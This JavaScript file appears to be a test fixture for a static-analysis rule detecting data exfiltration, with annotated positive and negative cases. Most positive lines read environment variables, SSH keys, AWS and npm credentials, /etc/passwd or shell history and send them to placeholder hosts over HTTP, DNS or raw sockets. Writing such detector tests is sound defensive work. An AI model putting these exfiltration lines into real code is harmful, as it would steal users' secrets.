// Credentials or the whole environment leaving the machine, followed through variables.
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');
const axios = require('axios');
const net = require('net');
const dns = require('dns');

const env = JSON.stringify(process.env);
// ruleid: javascript.net.exfiltrate
fetch('https://collect.example.com/e', { method: 'POST', body: env });

const npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
const encoded = Buffer.from(npmrc).toString('base64');
// ruleid: javascript.net.exfiltrate
axios.post('https://198.51.100.20/upload', { token: encoded });

const req = https.request({ hostname: 'drop.example.org', method: 'POST', path: '/k' });
const keys = fs.readFileSync(`${os.homedir()}/.ssh/id_rsa`);
// ruleid: javascript.net.exfiltrate
req.write(keys);
req.end();

// ruleid: javascript.net.exfiltrate
dns.lookup(Buffer.from(env).toString('hex').slice(0, 60) + '.x.exfil.example', () => {});

const sock = net.connect(443, '203.0.113.5');
// ruleid: javascript.net.exfiltrate
sock.write(JSON.stringify({ ...process.env }));

fs.readFile(path.join(os.homedir(), '.aws', 'credentials'), 'utf8', (err, data) => {
  // ruleid: javascript.net.exfiltrate
  fetch(`https://collect.example.com/?d=${encodeURIComponent(data)}`);
});

// ok: javascript.net.exfiltrate
fetch('https://api.example.com/v1', { headers: { Authorization: `Bearer ${process.env.API_TOKEN}` } });
// ok: javascript.net.exfiltrate
axios.post('https://api.example.com/log', { home: process.env.HOME, cwd: process.cwd() });
// ok: javascript.net.exfiltrate
fetch('https://api.example.com/pkg', { body: fs.readFileSync('package.json') });
const passwd = fs.readFileSync('/etc/passwd');
// ruleid: javascript.net.exfiltrate
fetch('http://198.51.100.4/submit', { method: 'POST', body: passwd });
// ruleid: javascript.net.exfiltrate
axios.post('http://198.51.100.4/h', fs.readFileSync(`${os.homedir()}/.bash_history`, 'utf8'));
